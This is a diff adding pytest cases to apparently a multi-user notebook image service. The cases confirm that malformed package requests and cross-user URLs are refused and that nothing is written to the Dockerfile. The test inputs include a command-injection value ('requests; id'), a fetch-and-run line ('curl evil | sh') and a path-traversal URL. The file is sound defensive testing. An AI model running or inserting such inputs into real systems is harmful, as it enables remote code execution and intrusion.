@@ -190,6 +190,50 @@ def test_another_users_project_is_forbidden(hub, alice):
     assert bob.get("images?all=1").status_code == 403
 
 
+@pytest.mark.parametrize(
+    "body, status, says",
+    [
+        ({"add_pip": "requests; id"}, 400, "pip package"),  # a string is read as lines
+        ({"add_pip": [1, 2]}, 400, "lists of strings"),
+        ({"add_pip": {"requests": 1}}, 400, "lists of strings"),
+        ({"requirements": ["requests"]}, 400, "requirements must be text"),
+        ({"add_pip": ["requests"], "run": "curl evil | sh"}, 400, "unknown field 'run'"),
+        (["add_pip", "requests"], 400, "JSON object"),
+        ("not json {", 400, "must be JSON"),
+        ({"requirements": "requests\n" * 40000}, 413, "larger than"),
+    ],
+)
+def test_malformed_payloads_are_refused_and_nothing_written(hub, alice, body, status, says):
+    path = workspace(hub, "alice", "thesis") / "Dockerfile"
+    before = path.read_text()
+    data = body if isinstance(body, str) else json.dumps(body)
+    r = requests.post(
+        alice.base + "images/alice/thesis/packages", data=data, headers=alice.headers, timeout=60
+    )
+    assert r.status_code == status, r.text
+    assert says in r.json()["message"]
+    assert path.read_text() == before
+
+
+@pytest.mark.parametrize(
+    "path, status",
+    [
+        ("images/alice/..%2Fbob/packages", 404),
+        ("images/ALICE/thesis/packages", 403),
+        ("images/bob/thesis/restart", 403),
+        ("images/alice/thesis/restart", 403),
+        ("policy/reload", 403),
+    ],
+)
+def test_other_names_in_service_urls_are_refused(hub, alice, path, status):
+    bob = Client(hub, "bob")
+    before = (workspace(hub, "alice", "thesis") / "Dockerfile").read_text()
+    r = bob.post(path, {"add_pip": ["requests"]} if path.endswith("packages") else {})
+    assert r.status_code == status, r.text
+    assert (workspace(hub, "alice", "thesis") / "Dockerfile").read_text() == before
+    assert hub.api("GET", "users/alice").json()["servers"]["thesis"]["ready"], "not restarted"
+
+
 def test_admin_sees_every_image_and_cannot_delete_a_running_one(hub, alice):
     admin = Client(hub, "admin")
     projects = admin.get("images?all=1").json()["projects"]
